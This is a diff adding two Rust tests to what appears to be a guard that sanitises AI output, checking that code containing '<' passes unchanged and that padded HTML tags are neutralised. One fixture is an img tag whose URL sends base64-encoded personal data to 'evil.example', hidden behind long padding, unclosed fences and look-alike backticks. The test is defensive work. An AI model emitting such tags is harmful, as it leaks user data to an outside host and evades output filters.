@@ -444,6 +444,69 @@ fn a_tag_padded_past_its_bound_is_neutralised_whole_and_streamed() {
     }
 }
 
+/// Code is not markup: a `<` with no `>` for kilobytes inside code (`if a<b`) opens no
+/// tag, so it is not `OVERLONG_MARKUP` and the answer passes unchanged: fenced code whole
+/// and streamed, indented code and code spans whole (a stream trusts only the fenced code
+/// it proved, see `code_fences.rs`).
+#[test]
+fn a_lone_less_than_in_code_is_not_overlong_markup() {
+    let g = Guard::new(Policy::default()).expect("default policy");
+    let lines: String = (0..120)
+        .map(|i| format!("    total = total + weight(a, b, {i});\n"))
+        .collect();
+    let fenced = format!("Here:\n\n```rust\nif a<b {{\n{lines}}}\n```\n\nDone.");
+    let tilde = format!("Here:\n~~~\nwhile i<n:\n{lines}~~~\nDone.");
+    let indented = format!("Here:\n\n    if a<b {{\n{lines}    }}\n\nDone.");
+    let span = format!(
+        "Use `a<b` to compare. {}Done.",
+        "The rest of the answer is prose. ".repeat(90)
+    );
+    for (what, text, stream) in [
+        ("fenced", &fenced, true),
+        ("tilde", &tilde, true),
+        ("indented", &indented, false),
+        ("span", &span, false),
+    ] {
+        let whole = g
+            .inspect(text, Context::output(), &mut Session::new())
+            .expect("inspect");
+        assert!(
+            whole.findings.iter().all(|f| f.entity != "OVERLONG_MARKUP"),
+            "{what}: {:?}",
+            whole.findings
+        );
+        assert_eq!(&whole.text, text, "{what}");
+        if stream {
+            for size in [1, 7, 64, 500, 5000] {
+                let (out, entities) = streamed(&g, text, size);
+                assert_eq!(&out, text, "{what}, chunks of {size}");
+                assert!(
+                    entities.iter().all(|e| e != "OVERLONG_MARKUP"),
+                    "{what}, chunks of {size}: {entities:?}"
+                );
+            }
+        }
+    }
+}
+
+/// Raw HTML outside code is still caught past its bound, whole and streamed: after a
+/// closed fence, when a fence line sits inside an HTML block (not a fence there), when
+/// backticks would pair differently in a window than in the whole text, and behind a
+/// fence of look-alike backticks that only normalisation turns into one.
+#[test]
+fn a_padded_tag_outside_code_is_neutralised_next_to_code() {
+    let pad = "x".repeat(5000);
+    let tag = format!("<img alt=\"{pad}\" src=\"https://evil.example/p?d=QWxpY2UgSm9uZXM\">");
+    for text in [
+        format!("```\nif a<b\n```\n\nhi {tag} end"),
+        format!("<div>\n```\nhi {tag} end"),
+        format!("a ` b\nc ` hi {tag} d `"),
+        format!("\u{FF40}\u{FF40}\u{FF40}\nhi {tag} end"),
+    ] {
+        padded_construct_is_neutralised(&text, "<img");
+    }
+}
+
 /// Bound: `output::MAX_TAG` for an image's alt text (`![` to its `]`), across lines and
 /// with nested brackets, which a line-based hold-back released early.
 #[test]
